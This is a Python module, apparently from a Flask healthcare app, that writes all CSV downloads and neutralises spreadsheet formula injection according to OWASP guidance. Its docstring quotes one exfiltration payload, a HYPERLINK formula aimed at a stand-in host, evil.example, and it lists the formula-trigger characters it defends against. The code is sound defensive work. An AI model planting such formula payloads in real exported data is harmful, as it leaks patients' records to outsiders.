"""The one CSV writer of the app: every download (assessments, quality indicators, the access
log) is written here, so that no text from a user can become a spreadsheet formula.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a cell as a formula when its
text starts with `=`, `+`, `-` or `@`, and some of them also after a leading tab or carriage
return (OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection; OWASP
ASVS 5.0 requirement 1.2.10 adds the NUL character). A patient named
`=HYPERLINK("https://evil.example/?"&B2)` would otherwise send the row next to it to a stranger
when a manager opens the access log.

What is written:
- free text (names, unit names, e-mail addresses, titles): a cell starting with one of those
  characters gets a leading apostrophe, which the spreadsheet shows as text (OWASP's
  guidance); every text cell is quoted, so a `,` or the `;` that Swedish spreadsheets use as
  separator cannot start a new cell inside it;
- numbers: as numbers, unquoted (a negative score would stay a number; none exists today);
- opaque ids (`id_columns`): exactly as stored, so that they can be matched against the app
  again. They come from `secrets.token_urlsafe` and may start with `-`; they hold only
  letters, digits, `-` and `_` (checked here: anything else in an id column is refused, never
  written), so a spreadsheet that evaluates one finds no function call or reference to run
  (it may show the cell as an error, `#NAME?`: the id is still intact in the file).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Sequence

from flask import Response

#: First characters that make a spreadsheet read a cell as a formula (OWASP, ASVS 1.2.10).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
#: What an opaque public id may hold (the alphabet of `secrets.token_urlsafe`).
_ID = re.compile(r"[A-Za-z0-9_-]+")


class UnsafeIdCell(ValueError):
    """A value in an id column that is not an opaque id: refused rather than written raw."""


def neutralise(text: str) -> str:
    """`text` as a spreadsheet shows it but never runs it."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _cell(value: object, is_id: bool) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return neutralise(str(value))
    if isinstance(value, int | float):
        return value
    text = str(value)
    if is_id:
        if text and not _ID.fullmatch(text):
            raise UnsafeIdCell(text)
        return text
    return neutralise(text)


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[object]],
    *,
    id_columns: Collection[str] = (),
) -> str:
    """The rows as CSV text (RFC 4180, CRLF line ends), every cell made safe as described in
    the module docstring; `id_columns` name the columns that hold opaque ids."""
    unknown = set(id_columns) - set(header)
    if unknown:
        raise ValueError(f"id columns not in the header: {sorted(unknown)}")
    ids = [name in id_columns for name in header]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([neutralise(name) for name in header])
    for row in rows:
        if len(row) != len(header):
            raise ValueError(f"a row of {len(row)} cells under a header of {len(header)}")
        writer.writerow([_cell(value, is_id) for value, is_id in zip(row, ids, strict=True)])
    return out.getvalue()


def download(text: str, filename: str) -> Response:
    """A CSV file to save, not to show: with a byte order mark, so that spreadsheet programs
    read it as UTF-8 (å, ä, ö)."""
    return Response(
        "\ufeff" + text,
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
